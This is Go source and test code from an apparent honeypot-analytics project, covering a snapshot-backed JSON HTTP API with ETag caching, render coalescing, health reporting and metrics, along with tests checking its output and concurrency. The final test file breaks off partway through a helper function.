func RegisterServeMetrics(reg *metrics.Registry, s *Server) {
	reg.CounterFunc("honeyfarm_serve_cache_hits_total",
		"Responses served from the per-snapshot render cache.",
		nil, func() float64 { return float64(s.Metrics().CacheHits) })
	reg.CounterFunc("honeyfarm_serve_renders_total",
		"Response bodies rendered (cache misses).",
		nil, func() float64 { return float64(s.Metrics().Renders) })
	reg.CounterFunc("honeyfarm_serve_coalesced_total",
		"Requests that waited on another request's in-flight render.",
		nil, func() float64 { return float64(s.Metrics().Coalesced) })
	reg.CounterFunc("honeyfarm_serve_not_modified_total",
		"ETag revalidations answered 304.",
		nil, func() float64 { return float64(s.Metrics().NotModified) })
	reg.CounterFunc("honeyfarm_serve_rejected_total",
		"Requests shed with 503 by the bounded in-flight semaphore.",
		nil, func() float64 { return float64(s.Metrics().Rejected) })
}

// BuildServeRegistry assembles the full cmd/serve metric set: source +
// engine + serve rows, plus the follower rows when f is non-nil. This
// is exactly what cmd/serve mounts at /metrics, so the golden test
// over it pins the binary's exposition.
func BuildServeRegistry(eng *Engine, f *Follower, srv *Server, numPots int) *metrics.Registry {
	reg := metrics.NewRegistry()
	RegisterSourceMetrics(reg, eng, numPots)
	RegisterEngineMetrics(reg, eng)
	if f != nil {
		RegisterFollowerMetrics(reg, f)
	}
	RegisterServeMetrics(reg, srv)
	return reg
}
