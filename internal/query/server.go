package query

// The serving layer: a stdlib net/http JSON API over an Engine's
// snapshots. Every data endpoint is a pure function of one immutable
// snapshot, which buys the whole caching story:
//
//   - responses carry an ETag derived from the snapshot sequence and
//     the request key, so If-None-Match revalidation costs nothing
//     between seals (a 304 with no body);
//   - response bodies are cached per (sequence, key) and rendered at
//     most once — concurrent identical requests coalesce on a
//     sync.Once instead of re-encoding the same snapshot N times;
//   - a semaphore bounds in-flight rendering; waiting requests honor
//     client cancellation.
//
// The handler never blocks ingest and ingest never blocks the handler:
// both sides only touch the atomically published snapshot pointer.

import (
	"encoding/json"
	"fmt"
	"net/http"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
	"time"

	"honeyfarm/internal/analysis"
	"honeyfarm/internal/metrics"
	"honeyfarm/internal/wal"
)

// Source supplies the snapshots a Server renders: the local Engine for
// a single-node farm, or the distributed merge coordinator
// (internal/shard) for a multi-node one. Snapshot must never return
// nil and must never block; Seq may run ahead of the published
// snapshot's sequence.
type Source interface {
	Snapshot() *Snapshot
	Seq() uint64
	Epoch() time.Time
}

// ShardStatus is one collector shard's health as the merge coordinator
// sees it, surfaced through /v1/healthz on a merge node. LastSeq and
// LastOKUnix are the staleness accounting: how far into the shard's
// stream the merged snapshot reaches, and when the shard last answered
// a pull.
type ShardStatus struct {
	ID  int    `json:"id"`
	URL string `json:"url"`
	// Up reports the shard is answering pulls; a down shard's last
	// installed partial keeps serving (stale) until it recovers.
	Up      bool   `json:"up"`
	LastSeq uint64 `json:"last_seq"`
	// LastOKUnix is the wall-clock second of the last successful pull
	// (0 when the coordinator runs without a clock, as tests do).
	LastOKUnix int64 `json:"last_ok_unix,omitempty"`
	// Failures counts consecutive failed pulls/probes since the last
	// success.
	Failures int    `json:"failures,omitempty"`
	LastErr  string `json:"last_err,omitempty"`
}

// ServerConfig parameterizes NewServer.
type ServerConfig struct {
	// Source supplies snapshots. Required.
	Source Source
	// Follower, when the engine is fed by a WAL tail, surfaces its
	// position and terminal error in /v1/healthz. Optional.
	Follower *Follower
	// WALHealth, when the serving process also owns the WAL writer,
	// supplies its degraded-mode snapshot for /v1/healthz: a degraded
	// writer turns the status to "degraded:wal" (HTTP 503) and its
	// count-and-drop losses appear as wal_dropped_records. Optional.
	WALHealth func() wal.Health
	// Shards, when the serving process is a merge coordinator, supplies
	// the fleet's per-shard health for /v1/healthz: any down shard turns
	// the status to "degraded:shard" (HTTP 503) while the merged
	// snapshot keeps serving from healthy shards plus the down shard's
	// last installed state. Optional.
	Shards func() []ShardStatus
	// MaxInflight bounds concurrently rendered responses (default 64).
	MaxInflight int
	// ClientRows is the default (and maximum) row count for /v1/clients
	// (default 100); ?limit= selects fewer.
	ClientRows int
}

// Server renders a Source's snapshots over HTTP.
type Server struct {
	source     Source
	follower   *Follower
	walHealth  func() wal.Health
	shards     func() []ShardStatus
	sem        chan struct{}
	clientRows int

	// Serve-layer counters, exported through /metrics via
	// RegisterServeMetrics. Always allocated (zero Counters are live),
	// so the hot path never nil-checks.
	cacheHits   metrics.Counter // body served from the render cache
	renders     metrics.Counter // bodies rendered (cache misses)
	coalesced   metrics.Counter // requests that waited on another's render
	notModified metrics.Counter // 304 revalidations
	rejected    metrics.Counter // 503s from the bounded in-flight semaphore

	mu       sync.Mutex
	cacheSeq uint64
	cache    map[string]*cacheEntry
}

// cacheEntry is one (sequence, key) response: cache and singleflight in
// one — whoever arrives first renders, everyone else waits on the Once.
type cacheEntry struct {
	snap *Snapshot
	once sync.Once
	body []byte
	err  error
	done atomic.Bool // set after the Once ran: distinguishes hit from coalesce
}

// NewServer creates a server over the snapshot source.
func NewServer(cfg ServerConfig) *Server {
	if cfg.MaxInflight <= 0 {
		cfg.MaxInflight = 64
	}
	if cfg.ClientRows <= 0 {
		cfg.ClientRows = 100
	}
	return &Server{
		source:     cfg.Source,
		follower:   cfg.Follower,
		walHealth:  cfg.WALHealth,
		shards:     cfg.Shards,
		sem:        make(chan struct{}, cfg.MaxInflight),
		clientRows: cfg.ClientRows,
		cache:      make(map[string]*cacheEntry),
	}
}

// Handler returns the API mux.
func (s *Server) Handler() http.Handler {
	mux := http.NewServeMux()
	mux.HandleFunc("/v1/summary", func(w http.ResponseWriter, r *http.Request) {
		s.serveSnapshot(w, r, "summary", func(snap *Snapshot) any {
			return summaryResponse{
				Seq: snap.Seq, Days: snap.Days,
				Epoch:    s.source.Epoch().Format(time.RFC3339),
				Sessions: snap.Summary.Total,
				Clients:  len(snap.Clients),
				Hashes:   len(snap.Hashes),
				Summary:  snap.Summary,
			}
		})
	})
	mux.HandleFunc("/v1/pots", func(w http.ResponseWriter, r *http.Request) {
		s.serveSnapshot(w, r, "pots", func(snap *Snapshot) any {
			return potsResponse{Seq: snap.Seq, Pots: snap.Pots}
		})
	})
	mux.HandleFunc("/v1/clients", func(w http.ResponseWriter, r *http.Request) {
		limit, err := limitParam(r, s.clientRows)
		if err != nil {
			http.Error(w, err.Error(), http.StatusBadRequest)
			return
		}
		s.serveSnapshot(w, r, fmt.Sprintf("clients?limit=%d", limit), func(snap *Snapshot) any {
			rows := snap.Clients
			if len(rows) > limit {
				rows = rows[:limit]
			}
			return clientsResponse{Seq: snap.Seq, Total: len(snap.Clients), Clients: rows}
		})
	})
	mux.HandleFunc("/v1/countries", func(w http.ResponseWriter, r *http.Request) {
		s.serveSnapshot(w, r, "countries", func(snap *Snapshot) any {
			return countriesResponse{Seq: snap.Seq, Countries: snap.Countries}
		})
	})
	mux.HandleFunc("/v1/availability", func(w http.ResponseWriter, r *http.Request) {
		s.serveSnapshot(w, r, "availability", func(snap *Snapshot) any {
			return availabilityResponse{
				Seq: snap.Seq, Days: snap.Days,
				TotalDropped: analysis.TotalDropped(snap.Availability),
				Availability: snap.Availability,
			}
		})
	})
	mux.HandleFunc("/v1/healthz", s.serveHealthz)
	return mux
}

// Response envelopes. The aggregate rows themselves serialize as their
// analysis types — the exact encoding the equivalence property pins.
type summaryResponse struct {
	Seq      uint64                  `json:"seq"`
	Days     int                     `json:"days"`
	Epoch    string                  `json:"epoch"`
	Sessions int                     `json:"sessions"`
	Clients  int                     `json:"clients"`
	Hashes   int                     `json:"hashes"`
	Summary  analysis.CategoryShares `json:"summary"`
}

type potsResponse struct {
	Seq  uint64                 `json:"seq"`
	Pots []analysis.PerHoneypot `json:"pots"`
}

type clientsResponse struct {
	Seq     uint64                `json:"seq"`
	Total   int                   `json:"total"`
	Clients []analysis.ClientStat `json:"clients"`
}

type countriesResponse struct {
	Seq       uint64                  `json:"seq"`
	Countries []analysis.CountryCount `json:"countries"`
}

type availabilityResponse struct {
	Seq          uint64                     `json:"seq"`
	Days         int                        `json:"days"`
	TotalDropped int                        `json:"total_dropped"`
	Availability []analysis.PotAvailability `json:"availability"`
}

type healthzResponse struct {
	Status      string `json:"status"`
	IngestedSeq uint64 `json:"ingested_seq"`
	SnapshotSeq uint64 `json:"snapshot_seq"`
	Days        int    `json:"days"`
	WALSegment  uint64 `json:"wal_segment,omitempty"`
	WALOffset   int64  `json:"wal_offset,omitempty"`
	// WALDroppedRecords and WALDropReason carry the WAL's count-and-drop
	// loss accounting: records the writer refused while degraded, from
	// the writer's Health snapshot (WALHealth) or the gap frames the
	// follower's tail has crossed. Both omitted when nothing was lost,
	// keeping healthy responses byte-stable.
	WALDroppedRecords int    `json:"wal_dropped_records,omitempty"`
	WALDropReason     string `json:"wal_drop_reason,omitempty"`
	// Shards is the merge coordinator's per-shard staleness table; only
	// present on merge nodes.
	Shards []ShardStatus `json:"shards,omitempty"`
	Error  string        `json:"error,omitempty"`
}

// limitParam parses ?limit= clamped to [0, max]; absent selects max.
func limitParam(r *http.Request, max int) (int, error) {
	raw := r.URL.Query().Get("limit")
	if raw == "" {
		return max, nil
	}
	n, err := strconv.Atoi(raw)
	if err != nil || n < 0 {
		return 0, fmt.Errorf("invalid limit %q", raw)
	}
	if n > max {
		n = max
	}
	return n, nil
}

// serveSnapshot renders one cacheable snapshot view: bounded
// concurrency, ETag revalidation, per-(sequence,key) render coalescing.
func (s *Server) serveSnapshot(w http.ResponseWriter, r *http.Request, key string, build func(*Snapshot) any) {
	if r.Method != http.MethodGet && r.Method != http.MethodHead {
		w.Header().Set("Allow", "GET, HEAD")
		http.Error(w, "method not allowed", http.StatusMethodNotAllowed)
		return
	}
	select {
	case s.sem <- struct{}{}:
		defer func() { <-s.sem }()
	case <-r.Context().Done():
		// The request left the queue without a render slot: the server
		// was saturated longer than the client was willing to wait. This
		// used to be a silent bare error; surface it as an overload
		// rejection — counted, and with Retry-After so a well-behaved
		// client backs off before re-dialing.
		s.rejected.Inc()
		w.Header().Set("Retry-After", "1")
		http.Error(w, "overloaded: no render slot within the request deadline", http.StatusServiceUnavailable)
		return
	}
	entry, created := s.entry(s.source.Snapshot(), key)
	etag := fmt.Sprintf("\"q%d-%s\"", entry.snap.Seq, key)
	w.Header().Set("Cache-Control", "no-cache")
	if etagMatches(r.Header.Get("If-None-Match"), etag) {
		s.notModified.Inc()
		w.Header().Set("ETag", etag)
		w.WriteHeader(http.StatusNotModified)
		return
	}
	switch {
	case created:
		s.renders.Inc()
	case entry.done.Load():
		s.cacheHits.Inc()
	default:
		s.coalesced.Inc()
	}
	entry.once.Do(func() {
		entry.body, entry.err = json.Marshal(build(entry.snap))
		if entry.err == nil {
			entry.body = append(entry.body, '\n')
		}
		entry.done.Store(true)
	})
	if entry.err != nil {
		http.Error(w, "encoding failed", http.StatusInternalServerError)
		return
	}
	w.Header().Set("ETag", etag)
	w.Header().Set("Content-Type", "application/json")
	w.Header().Set("Content-Length", strconv.Itoa(len(entry.body)))
	if r.Method == http.MethodHead {
		return
	}
	if _, err := w.Write(entry.body); err != nil {
		return // client went away mid-write; nothing to recover
	}
}

// entry returns the render cache slot for (snap.Seq, key), pinning the
// snapshot the first requester saw. The cache is cleared whenever a
// newer sequence shows up, so it holds at most one generation (plus
// stragglers already in flight).
func (s *Server) entry(snap *Snapshot, key string) (e *cacheEntry, created bool) {
	full := fmt.Sprintf("%d|%s", snap.Seq, key)
	s.mu.Lock()
	defer s.mu.Unlock()
	if snap.Seq > s.cacheSeq {
		s.cache = make(map[string]*cacheEntry)
		s.cacheSeq = snap.Seq
	}
	e = s.cache[full]
	if e == nil {
		e = &cacheEntry{snap: snap}
		s.cache[full] = e
		created = true
	}
	return e, created
}

// ServeMetrics is a consistent-enough snapshot of the serve-layer
// counters (each field is individually atomic).
type ServeMetrics struct {
	CacheHits   uint64
	Renders     uint64
	Coalesced   uint64
	NotModified uint64
	Rejected    uint64
}

// Metrics returns the current serve-layer counter values.
func (s *Server) Metrics() ServeMetrics {
	return ServeMetrics{
		CacheHits:   s.cacheHits.Value(),
		Renders:     s.renders.Value(),
		Coalesced:   s.coalesced.Value(),
		NotModified: s.notModified.Value(),
		Rejected:    s.rejected.Value(),
	}
}

// etagMatches implements If-None-Match: a comma-separated candidate
// list or "*". Weak validators compare by their opaque tail.
func etagMatches(header, etag string) bool {
	if header == "" {
		return false
	}
	for _, cand := range strings.Split(header, ",") {
		cand = strings.TrimSpace(cand)
		cand = strings.TrimPrefix(cand, "W/")
		if cand == "*" || cand == etag {
			return true
		}
	}
	return false
}

// serveHealthz reports liveness: never cached, never gated on the
// render semaphore, and degraded (HTTP 503) once the follower hit a
// terminal error.
func (s *Server) serveHealthz(w http.ResponseWriter, r *http.Request) {
	snap := s.source.Snapshot()
	resp := healthzResponse{
		Status:      "ok",
		IngestedSeq: s.source.Seq(),
		SnapshotSeq: snap.Seq,
		Days:        snap.Days,
	}
	if s.follower != nil {
		resp.WALSegment, resp.WALOffset = s.follower.Position()
		// Gap frames are the degraded writer's outage records; the last
		// one's reason labels the losses.
		for _, g := range s.follower.WALGaps() {
			resp.WALDroppedRecords += g.Records
			resp.WALDropReason = g.Reason
		}
		if err := s.follower.Err(); err != nil {
			resp.Status = "degraded"
			resp.Error = err.Error()
		}
	}
	if s.walHealth != nil {
		// The in-process writer's view is authoritative: it sees drops the
		// tail has not crossed yet (an open outage has no gap frame until
		// recovery writes one).
		h := s.walHealth()
		if h.DroppedRecords > 0 {
			resp.WALDroppedRecords = h.DroppedRecords
		}
		if h.Degraded {
			resp.Status = "degraded:wal"
			resp.WALDropReason = h.Reason
		}
	}
	if s.shards != nil {
		resp.Shards = s.shards()
		// A down shard degrades the node but does not stop it: the merged
		// snapshot keeps serving healthy shards plus the down shard's last
		// installed partial.
		for _, sh := range resp.Shards {
			if !sh.Up {
				resp.Status = "degraded:shard"
				break
			}
		}
	}
	w.Header().Set("Content-Type", "application/json")
	if resp.Status != "ok" {
		w.WriteHeader(http.StatusServiceUnavailable)
	}
	body, err := json.Marshal(resp)
	if err != nil {
		http.Error(w, "encoding failed", http.StatusInternalServerError)
		return
	}
	if _, err := w.Write(append(body, '\n')); err != nil {
		return // client went away mid-write; nothing to recover
	}
}
