package query_test

import (
	"encoding/json"
	"flag"
	"io"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"sync"
	"syscall"
	"testing"
	"time"

	"honeyfarm"
	"honeyfarm/internal/analysis"
	"honeyfarm/internal/honeypot"
	"honeyfarm/internal/iofault"
	"honeyfarm/internal/malware"
	"honeyfarm/internal/query"
	"honeyfarm/internal/wal"
)

var updateGolden = flag.Bool("update", false, "rewrite the endpoint golden files")

// testServer builds a server over a small fixed dataset; every response
// body is a pure function of the seed, so the goldens are stable.
func testServer(t *testing.T) *httptest.Server {
	t.Helper()
	const numPots = 4
	d, err := honeyfarm.Simulate(honeyfarm.SimulateConfig{
		Seed: 21, TotalSessions: 80, Days: 6, NumPots: numPots,
	})
	if err != nil {
		t.Fatal(err)
	}
	eng := query.New(query.Config{
		Epoch: honeyfarm.DefaultEpoch, NumPots: numPots,
		Registry: d.Registry, Tagger: analysis.Tagger(malware.NewTagger(nil)),
	})
	eng.Ingest(d.Store.Records())
	eng.Seal()
	srv := httptest.NewServer(query.NewServer(query.ServerConfig{Source: eng}).Handler())
	t.Cleanup(srv.Close)
	return srv
}

func get(t *testing.T, srv *httptest.Server, path string) (*http.Response, []byte) {
	t.Helper()
	resp, err := srv.Client().Get(srv.URL + path)
	if err != nil {
		t.Fatal(err)
	}
	body, err := io.ReadAll(resp.Body)
	resp.Body.Close()
	if err != nil {
		t.Fatal(err)
	}
	return resp, body
}

// TestEndpointGoldens pins the JSON shape of every /v1 endpoint. Run
// with -update after an intentional API change.
func TestEndpointGoldens(t *testing.T) {
	srv := testServer(t)
	cases := []struct{ name, path string }{
		{"summary", "/v1/summary"},
		{"pots", "/v1/pots"},
		{"clients", "/v1/clients?limit=5"},
		{"countries", "/v1/countries"},
		{"availability", "/v1/availability"},
		{"healthz", "/v1/healthz"},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			resp, body := get(t, srv, tc.path)
			if resp.StatusCode != http.StatusOK {
				t.Fatalf("GET %s = %d", tc.path, resp.StatusCode)
			}
			if ct := resp.Header.Get("Content-Type"); ct != "application/json" {
				t.Fatalf("Content-Type = %q", ct)
			}
			golden := filepath.Join("testdata", tc.name+".golden.json")
			if *updateGolden {
				if err := os.MkdirAll("testdata", 0o755); err != nil {
					t.Fatal(err)
				}
				if err := os.WriteFile(golden, body, 0o644); err != nil {
					t.Fatal(err)
				}
			}
			want, err := os.ReadFile(golden)
			if err != nil {
				t.Fatalf("missing golden (run go test ./internal/query -update): %v", err)
			}
			if string(body) != string(want) {
				t.Fatalf("GET %s response changed\ngot:  %.300s\nwant: %.300s", tc.path, body, want)
			}
		})
	}
}

// TestETagRevalidation: a second request with If-None-Match must come
// back 304 with no body; a garbage validator must get the full body.
func TestETagRevalidation(t *testing.T) {
	srv := testServer(t)
	resp, body := get(t, srv, "/v1/summary")
	etag := resp.Header.Get("ETag")
	if etag == "" || len(body) == 0 {
		t.Fatalf("initial response: etag=%q bodyLen=%d", etag, len(body))
	}

	req, err := http.NewRequest(http.MethodGet, srv.URL+"/v1/summary", nil)
	if err != nil {
		t.Fatal(err)
	}
	req.Header.Set("If-None-Match", etag)
	resp2, err := srv.Client().Do(req)
	if err != nil {
		t.Fatal(err)
	}
	b2, err := io.ReadAll(resp2.Body)
	resp2.Body.Close()
	if err != nil {
		t.Fatal(err)
	}
	if resp2.StatusCode != http.StatusNotModified || len(b2) != 0 {
		t.Fatalf("revalidation = %d with %d body bytes, want 304 empty", resp2.StatusCode, len(b2))
	}
	if got := resp2.Header.Get("ETag"); got != etag {
		t.Fatalf("304 ETag = %q, want %q", got, etag)
	}

	req.Header.Set("If-None-Match", `"stale"`)
	resp3, err := srv.Client().Do(req)
	if err != nil {
		t.Fatal(err)
	}
	b3, err := io.ReadAll(resp3.Body)
	resp3.Body.Close()
	if err != nil {
		t.Fatal(err)
	}
	if resp3.StatusCode != http.StatusOK || string(b3) != string(body) {
		t.Fatalf("stale validator: status %d, body match %v", resp3.StatusCode, string(b3) == string(body))
	}
}

// TestETagRotatesWithSnapshot: sealing a new sequence must change the
// validator, so caches refresh.
func TestETagRotatesWithSnapshot(t *testing.T) {
	const numPots = 3
	d, err := honeyfarm.Simulate(honeyfarm.SimulateConfig{
		Seed: 2, TotalSessions: 40, Days: 4, NumPots: numPots,
	})
	if err != nil {
		t.Fatal(err)
	}
	eng := query.New(query.Config{Epoch: honeyfarm.DefaultEpoch, NumPots: numPots, Registry: d.Registry})
	recs := d.Store.Records()
	eng.Ingest(recs[:20])
	eng.Seal()
	srv := httptest.NewServer(query.NewServer(query.ServerConfig{Source: eng}).Handler())
	defer srv.Close()

	r1, _ := get(t, srv, "/v1/pots")
	eng.Ingest(recs[20:])
	eng.Seal()
	r2, _ := get(t, srv, "/v1/pots")
	if r1.Header.Get("ETag") == r2.Header.Get("ETag") {
		t.Fatalf("ETag %q did not rotate across a seal", r1.Header.Get("ETag"))
	}
}

// TestConcurrentReads hammers every endpoint from many goroutines while
// the engine keeps ingesting and sealing — the reader/writer isolation
// contract under -race.
func TestConcurrentReads(t *testing.T) {
	const numPots = 6
	d, err := honeyfarm.Simulate(honeyfarm.SimulateConfig{
		Seed: 13, TotalSessions: 400, Days: 8, NumPots: numPots,
	})
	if err != nil {
		t.Fatal(err)
	}
	recs := d.Store.Records()
	eng := query.New(query.Config{Epoch: honeyfarm.DefaultEpoch, NumPots: numPots, Registry: d.Registry})
	srv := httptest.NewServer(query.NewServer(query.ServerConfig{Source: eng, MaxInflight: 4}).Handler())
	defer srv.Close()

	var wg sync.WaitGroup
	wg.Add(1)
	go func() {
		defer wg.Done()
		for i := 0; i < len(recs); i += 25 {
			j := i + 25
			if j > len(recs) {
				j = len(recs)
			}
			eng.Ingest(recs[i:j])
			eng.Seal()
		}
	}()
	paths := []string{"/v1/summary", "/v1/pots", "/v1/clients", "/v1/countries", "/v1/availability", "/v1/healthz"}
	for g := 0; g < 8; g++ {
		wg.Add(1)
		go func(g int) {
			defer wg.Done()
			for i := 0; i < 30; i++ {
				resp, _ := get(t, srv, paths[(g+i)%len(paths)])
				if resp.StatusCode != http.StatusOK {
					t.Errorf("GET %s = %d", paths[(g+i)%len(paths)], resp.StatusCode)
					return
				}
			}
		}(g)
	}
	wg.Wait()
}

// TestHealthzDegradedWAL pins the degraded-disk health contract: an
// in-process writer inside an outage flips /v1/healthz to
// "degraded:wal" (HTTP 503) with its count-and-drop accounting, and a
// follower that crossed the recovery gap frame surfaces the same
// losses from the read side while itself staying "ok".
func TestHealthzDegradedWAL(t *testing.T) {
	dir := t.TempDir()
	fsys, err := iofault.New(iofault.OS, iofault.Plan{})
	if err != nil {
		t.Fatal(err)
	}
	l, _, err := wal.Open(dir, wal.Options{
		Epoch: honeyfarm.DefaultEpoch, SyncEvery: 1, FS: fsys, ProbeEvery: 1,
	})
	if err != nil {
		t.Fatal(err)
	}
	rec := func(id uint64) []*honeypot.SessionRecord {
		start := honeyfarm.DefaultEpoch.Add(time.Hour)
		return []*honeypot.SessionRecord{{ID: id, Start: start, End: start}}
	}
	if err := l.Append(rec(1)); err != nil {
		t.Fatal(err)
	}
	fsys.Break(syscall.EIO)
	if err := l.Append(rec(2)); err == nil {
		t.Fatal("append on a broken disk succeeded")
	}

	type walHealthz struct {
		Status  string `json:"status"`
		Dropped int    `json:"wal_dropped_records"`
		Reason  string `json:"wal_drop_reason"`
	}
	healthz := func(srv *httptest.Server) (*http.Response, walHealthz) {
		t.Helper()
		resp, body := get(t, srv, "/v1/healthz")
		var h walHealthz
		if err := json.Unmarshal(body, &h); err != nil {
			t.Fatalf("decoding healthz %q: %v", body, err)
		}
		return resp, h
	}

	// Writer side: the WALHealth hook sees the open outage.
	eng := query.New(query.Config{Epoch: honeyfarm.DefaultEpoch, NumPots: 1})
	srv := httptest.NewServer(query.NewServer(query.ServerConfig{Source: eng, WALHealth: l.Health}).Handler())
	defer srv.Close()
	resp, h := healthz(srv)
	if resp.StatusCode != http.StatusServiceUnavailable {
		t.Fatalf("degraded healthz = %d, want 503", resp.StatusCode)
	}
	if h.Status != "degraded:wal" || h.Dropped != 1 || h.Reason == "" {
		t.Fatalf("degraded healthz = %+v, want degraded:wal with 1 dropped record", h)
	}

	// Heal: the next append probes (ProbeEvery: 1), recovers onto a
	// fresh segment, and records the outage as a gap frame.
	fsys.Heal()
	if err := l.Append(rec(3)); err != nil {
		t.Fatal(err)
	}
	resp, h = healthz(srv)
	if resp.StatusCode != http.StatusOK || h.Status != "ok" {
		t.Fatalf("healed healthz = %d %+v, want 200 ok", resp.StatusCode, h)
	}
	if h.Dropped != 1 {
		t.Fatalf("healed healthz lost the drop accounting: %+v", h)
	}
	if err := l.Close(); err != nil {
		t.Fatal(err)
	}

	// Read side: a follower crossing the gap frame reports the writer's
	// losses without being degraded itself.
	eng2 := query.New(query.Config{Epoch: honeyfarm.DefaultEpoch, NumPots: 1})
	f, err := query.NewFollower(eng2, dir, 2*time.Millisecond)
	if err != nil {
		t.Fatal(err)
	}
	f.Start()
	defer f.Stop()
	waitUntil(t, "records tailed", func() bool { return eng2.Snapshot().Seq == 2 })
	srv2 := httptest.NewServer(query.NewServer(query.ServerConfig{Source: eng2, Follower: f}).Handler())
	defer srv2.Close()
	resp, h = healthz(srv2)
	if resp.StatusCode != http.StatusOK || h.Status != "ok" {
		t.Fatalf("follower healthz = %d %+v, want 200 ok", resp.StatusCode, h)
	}
	if h.Dropped != 1 || h.Reason != "append: eio" {
		t.Fatalf("follower healthz = %+v, want 1 dropped record via append: eio", h)
	}
}

// TestRequestValidation covers the 4xx paths: bad limit, bad method.
func TestRequestValidation(t *testing.T) {
	srv := testServer(t)
	resp, _ := get(t, srv, "/v1/clients?limit=bogus")
	if resp.StatusCode != http.StatusBadRequest {
		t.Fatalf("bad limit = %d, want 400", resp.StatusCode)
	}
	post, err := srv.Client().Post(srv.URL+"/v1/summary", "application/json", nil)
	if err != nil {
		t.Fatal(err)
	}
	post.Body.Close()
	if post.StatusCode != http.StatusMethodNotAllowed {
		t.Fatalf("POST = %d, want 405", post.StatusCode)
	}
}
