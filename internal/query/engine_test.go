package query_test

import (
	"bytes"
	"encoding/json"
	"math/rand"
	"testing"
	"time"

	"honeyfarm"
	"honeyfarm/internal/analysis"
	"honeyfarm/internal/geo"
	"honeyfarm/internal/honeypot"
	"honeyfarm/internal/malware"
	"honeyfarm/internal/query"
	"honeyfarm/internal/store"
	"honeyfarm/internal/wal"
)

// batchSnapshot runs the batch pipeline (internal/analysis over a
// freshly built store) on a record prefix and shapes the results as a
// Snapshot — the reference the incremental engine must match byte for
// byte after JSON encoding.
func batchSnapshot(recs []*honeypot.SessionRecord, epoch time.Time, numPots int, reg *geo.Registry, tag analysis.Tagger) *query.Snapshot {
	st := store.New(epoch)
	st.AddBatch(recs)
	days := st.NumDays()
	return &query.Snapshot{
		Seq:          uint64(len(recs)),
		Days:         days,
		Summary:      analysis.ComputeCategoryShares(st),
		Pots:         analysis.ComputePerHoneypot(st, numPots),
		Clients:      analysis.ComputeClientStats(st, -1),
		Countries:    analysis.ClientCountries(st, reg, nil),
		Hashes:       analysis.ComputeHashStats(st, tag),
		Availability: analysis.ComputeAvailability(st, nil, numPots, days),
	}
}

func mustJSON(t *testing.T, v any) []byte {
	t.Helper()
	b, err := json.Marshal(v)
	if err != nil {
		t.Fatal(err)
	}
	return b
}

// TestSnapshotEquivalence is the tentpole property: a snapshot sealed
// at sequence N is byte-identical (after JSON encoding) to the batch
// pipeline over the first N records of the ingest stream — for random
// batch sizes, random seal points, and different generation worker
// counts.
func TestSnapshotEquivalence(t *testing.T) {
	const numPots = 37
	tag := analysis.Tagger(malware.NewTagger(nil))
	for _, workers := range []int{1, 7} {
		d, err := honeyfarm.Simulate(honeyfarm.SimulateConfig{
			Seed: 11, TotalSessions: 5000, Days: 60, NumPots: numPots, Workers: workers,
		})
		if err != nil {
			t.Fatal(err)
		}
		recs := d.Store.Records()
		eng := query.New(query.Config{
			Epoch: honeyfarm.DefaultEpoch, NumPots: numPots,
			Registry: d.Registry, Tagger: tag,
		})
		rng := rand.New(rand.NewSource(int64(workers)))
		var seals []*query.Snapshot
		for i := 0; i < len(recs); {
			j := i + 1 + rng.Intn(400)
			if j > len(recs) {
				j = len(recs)
			}
			eng.Ingest(recs[i:j])
			i = j
			if rng.Intn(3) == 0 {
				seals = append(seals, eng.Seal())
			}
		}
		seals = append(seals, eng.Seal())

		// Check the empty snapshot, a few random seals, and the final one.
		picks := map[int]bool{0: true, len(seals) - 1: true}
		for len(picks) < 4 && len(picks) < len(seals) {
			picks[rng.Intn(len(seals))] = true
		}
		empty := query.New(query.Config{
			Epoch: honeyfarm.DefaultEpoch, NumPots: numPots,
			Registry: d.Registry, Tagger: tag,
		}).Snapshot()
		check := append([]*query.Snapshot{empty}, seals...)
		for idx := range picks {
			snap := check[idx]
			want := batchSnapshot(recs[:snap.Seq], honeyfarm.DefaultEpoch, numPots, d.Registry, tag)
			got, ref := mustJSON(t, snap), mustJSON(t, want)
			if !bytes.Equal(got, ref) {
				t.Fatalf("workers=%d: snapshot at seq %d diverges from batch pipeline\nincremental: %.200s\nbatch:       %.200s",
					workers, snap.Seq, got, ref)
			}
		}
	}
}

// TestSnapshotCadence checks SnapshotEvery auto-sealing: the published
// snapshot advances without explicit Seal calls, and the auto-sealed
// view matches the batch pipeline at its own sequence.
func TestSnapshotCadence(t *testing.T) {
	const numPots = 9
	d, err := honeyfarm.Simulate(honeyfarm.SimulateConfig{
		Seed: 3, TotalSessions: 1200, Days: 20, NumPots: numPots,
	})
	if err != nil {
		t.Fatal(err)
	}
	recs := d.Store.Records()
	tag := analysis.Tagger(malware.NewTagger(nil))
	eng := query.New(query.Config{
		Epoch: honeyfarm.DefaultEpoch, NumPots: numPots,
		Registry: d.Registry, Tagger: tag, SnapshotEvery: 97,
	})
	for i := 0; i < len(recs); i += 50 {
		j := i + 50
		if j > len(recs) {
			j = len(recs)
		}
		eng.Ingest(recs[i:j])
	}
	snap := eng.Snapshot()
	if snap.Seq == 0 || snap.Seq == uint64(len(recs)) {
		t.Fatalf("auto-seal published seq %d; expected an intermediate sequence (total %d)", snap.Seq, len(recs))
	}
	want := batchSnapshot(recs[:snap.Seq], honeyfarm.DefaultEpoch, numPots, d.Registry, tag)
	if !bytes.Equal(mustJSON(t, snap), mustJSON(t, want)) {
		t.Fatalf("auto-sealed snapshot at seq %d diverges from batch pipeline", snap.Seq)
	}
}

// TestSnapshotIsolation: a snapshot held across further ingest must not
// change — its JSON encoding is stable while the engine moves on.
func TestSnapshotIsolation(t *testing.T) {
	const numPots = 5
	d, err := honeyfarm.Simulate(honeyfarm.SimulateConfig{
		Seed: 5, TotalSessions: 600, Days: 10, NumPots: numPots,
	})
	if err != nil {
		t.Fatal(err)
	}
	recs := d.Store.Records()
	eng := query.New(query.Config{Epoch: honeyfarm.DefaultEpoch, NumPots: numPots, Registry: d.Registry})
	eng.Ingest(recs[:300])
	held := eng.Seal()
	before := mustJSON(t, held)
	eng.Ingest(recs[300:])
	eng.Seal()
	if !bytes.Equal(before, mustJSON(t, held)) {
		t.Fatal("held snapshot mutated by later ingest")
	}
	if cur := eng.Snapshot(); cur.Seq != uint64(len(recs)) {
		t.Fatalf("current snapshot seq = %d, want %d", cur.Seq, len(recs))
	}
}

// waitUntil polls cond (bounded) with a short sleep; fails the test on
// timeout.
func waitUntil(t *testing.T, what string, cond func() bool) {
	t.Helper()
